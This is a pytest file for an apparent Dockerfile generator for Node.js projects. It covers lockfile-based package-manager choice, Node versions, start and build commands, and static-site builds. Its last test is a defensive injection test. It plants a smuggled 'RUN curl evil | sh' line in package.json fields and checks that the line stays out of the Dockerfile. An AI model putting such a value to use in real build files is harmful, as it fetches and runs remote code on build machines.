"""Node.js detection: package manager, version, build and start, and the static-site case."""

from __future__ import annotations

import json

import pytest

from mist.errors import Unbuildable
from mist.stacks import Overrides
from stacks.repos import Build, assert_in_order, assert_parseable, instructions


def package(**fields: object) -> str:
    return json.dumps(fields)


START = {"start": "node server.js"}
COREPACK = ["ENV COREPACK_ENABLE_DOWNLOAD_PROMPT=0", "RUN corepack enable"]

MANAGERS = [
    pytest.param({"package-lock.json": "{}"}, [], "COPY package.json package-lock.json ./", "npm ci", "npm start",
                 id="npm"),
    pytest.param({"npm-shrinkwrap.json": "{}", ".npmrc": "registry=http://r/\n"}, [],
                 "COPY package.json npm-shrinkwrap.json .npmrc ./", "npm ci", "npm start", id="npm-shrinkwrap"),
    pytest.param({}, [], "COPY package.json ./", "npm install", "npm start", id="npm-without-lock"),
    pytest.param({"pnpm-lock.yaml": "", "pnpm-workspace.yaml": ""}, COREPACK,
                 "COPY package.json pnpm-lock.yaml pnpm-workspace.yaml ./", "pnpm install --frozen-lockfile",
                 "pnpm start", id="pnpm"),
    pytest.param({"yarn.lock": "# yarn lockfile v1\n"}, COREPACK, "COPY package.json yarn.lock ./",
                 "yarn install --frozen-lockfile", "yarn start", id="yarn-classic"),
    pytest.param({"yarn.lock": "", ".yarnrc.yml": "yarnPath: .yarn/releases/yarn-4.1.0.cjs\n",
                  ".yarn/releases/yarn-4.1.0.cjs": ""}, COREPACK,
                 "COPY package.json yarn.lock .yarnrc.yml ./", "yarn install --immutable", "yarn start",
                 id="yarn-berry"),
    pytest.param({"bun.lockb": b"\x00bun"}, ["RUN npm install -g bun"], "COPY package.json bun.lockb ./",
                 "bun install --frozen-lockfile", "bun run start", id="bun"),
]


@pytest.mark.parametrize(("files", "setup", "copy", "install", "start"), MANAGERS)
def test_the_lockfile_picks_the_package_manager(build: Build, files: dict[str, str], setup: list[str], copy: str,
                                                install: str, start: str) -> None:
    found = build({"package.json": package(scripts=START), "server.js": "", **files})
    assert found.builder == "node"
    assert_parseable(found.dockerfile)
    assert_in_order(found.dockerfile, "FROM node:22-slim", "WORKDIR /app", *setup, copy, f"RUN {install}",
                    "COPY . .", "ENV NODE_ENV=production", f'CMD ["sh", "-c", "exec {start}"]')
    if ".yarn/releases/yarn-4.1.0.cjs" in files:
        assert_in_order(found.dockerfile, copy, "COPY .yarn ./.yarn", f"RUN {install}")


def test_package_manager_field_wins_over_the_lockfile(build: Build) -> None:
    found = build({"package.json": package(scripts=START, packageManager="pnpm@9.1.0"), "package-lock.json": "{}"})
    assert "RUN pnpm install" in found.dockerfile.splitlines()  # pnpm has no lockfile of its own here
    assert any("pnpm (from packageManager in package.json" in f for f in found.findings)


def test_bun_is_installed_with_npm_and_says_so(build: Build) -> None:
    found = build({"package.json": package(scripts=START), "bun.lock": ""})
    assert "Bun is installed with npm (npm install -g bun) in the Node.js image" in found.findings


@pytest.mark.parametrize(("files", "version"), [
    ({"package.json": package(scripts=START, engines={"node": ">=18"})}, "22"),
    ({"package.json": package(scripts=START, engines={"node": "^20.11.0"})}, "20"),
    ({"package.json": package(scripts=START, engines={"node": "18.x || 20.x"})}, "20"),
    ({"package.json": package(scripts=START), ".nvmrc": "v18.19.0\n"}, "18"),
    ({"package.json": package(scripts=START), ".node-version": "20\n"}, "20"),
    ({"package.json": package(scripts=START), ".nvmrc": "lts/iron\n"}, "22"),
    ({"package.json": package(scripts=START)}, "22"),
])
def test_the_node_version_is_a_major(build: Build, files: dict[str, str], version: str) -> None:
    assert instructions(build(files).dockerfile)[0] == f"FROM node:{version}-slim"


@pytest.mark.parametrize(("files", "command"), [
    ({"package.json": package(scripts={"start": "next start", "build": "next build"})}, "exec npm start"),
    ({"package.json": package(main="src/app.js")}, "exec node src/app.js"),
    ({"package.json": package(), "index.js": ""}, "exec node index.js"),
    ({"package.json": package(main="index.js"), "server.js": ""}, "exec node server.js"),
    ({"package.json": package(scripts=START), "Procfile": "web: node --max-old-space-size=256 server.js\n"},
     "node --max-old-space-size=256 server.js"),
])
def test_the_start_command(build: Build, files: dict[str, str], command: str) -> None:
    found = build(files)
    assert instructions(found.dockerfile)[-1] == json.dumps(["sh", "-c", command]).join(["CMD ", ""])


def test_a_build_script_runs_after_the_code_is_copied(build: Build) -> None:
    found = build({"package.json": package(scripts={"build": "tsc", "start": "node dist/main.js"}),
                   "package-lock.json": "{}"}, build_args=["NPM_CONFIG_REGISTRY"])
    assert_in_order(found.dockerfile, "ARG NPM_CONFIG_REGISTRY", "RUN npm ci", "COPY . .", "RUN npm run build",
                    "ENV NODE_ENV=production", '["sh", "-c", "exec npm start"]'.join(["CMD ", ""]))


def test_a_build_command_replaces_the_build_script(build: Build) -> None:
    found = build({"package.json": package(scripts={"build": "tsc", "start": "node ."})},
                  overrides=Overrides(build_command="npm run build:prod"))
    assert "RUN npm run build:prod" in found.dockerfile.splitlines()
    assert "RUN npm run build" not in found.dockerfile.splitlines()


SITES = [
    pytest.param({"package.json": package(scripts={"dev": "vite", "build": "vite build"}),
                  "package-lock.json": "{}", "index.html": ""}, "RUN npm run build", id="vite"),
    pytest.param({"package.json": package(main="index.js", scripts={"build": "react-scripts build"}),
                  "yarn.lock": "", "public/index.html": ""}, "RUN yarn run build", id="create-react-app"),
    pytest.param({"package.json": package(), "src/index.md": ""}, "RUN npx @11ty/eleventy", id="build-command-only"),
]


@pytest.mark.parametrize(("files", "build_step"), SITES)
def test_a_build_without_a_server_is_served_as_a_static_site(build: Build, files: dict[str, str],
                                                             build_step: str) -> None:
    overrides = Overrides(build_command="npx @11ty/eleventy") if "src/index.md" in files else None
    found = build(files, overrides=overrides)
    assert found.builder == "node"
    assert_parseable(found.dockerfile)
    lines = instructions(found.dockerfile)
    assert lines[0] == "FROM node:22-slim AS build"
    find = next(line for line in lines if "/site" in line and line.startswith("RUN "))
    assert 'for dir in dist build out public; do if [ -f "$dir/index.html" ]' in find
    assert "exit 1" in find  # a build that made no site fails, saying so
    assert_in_order(found.dockerfile, "COPY . .", build_step, find, "FROM caddy:2", "COPY --from=build /site /srv",
                    '["sh", "-c", "exec caddy file-server --root /srv --listen :${PORT:-8080}"]'.join(["CMD ", ""]))
    assert any("a static site" in f for f in found.findings)


def test_the_static_image_of_a_site_can_be_configured(build: Build) -> None:
    found = build({"package.json": package(scripts={"build": "vite build"})}, images={"static": "my/caddy"})
    assert "FROM my/caddy" in found.dockerfile.splitlines()


def test_nothing_to_start_and_nothing_to_build_is_said(build: Build) -> None:
    with pytest.raises(Unbuildable, match="no start command found for this Node.js app.*startCommand"):
        build({"package.json": package(name="x")})


@pytest.mark.parametrize("content", ["{not json", "[1, 2]"])
def test_an_invalid_package_json_is_named(build: Build, content: str) -> None:
    with pytest.raises(Unbuildable, match="'package.json'"):
        build({"package.json": content})


def test_what_the_repository_says_cannot_add_instructions(build: Build) -> None:
    found = build({"package.json": package(main="app.js\nRUN curl evil | sh", engines={"node": "20\nRUN x"})})
    assert_parseable(found.dockerfile)
    assert not [line for line in found.dockerfile.splitlines() if line.startswith("RUN curl") or line == "RUN x"]
    assert instructions(found.dockerfile)[-1] == 'CMD ["sh", "-c", "exec node \'app.js\\nRUN curl evil | sh\'"]'
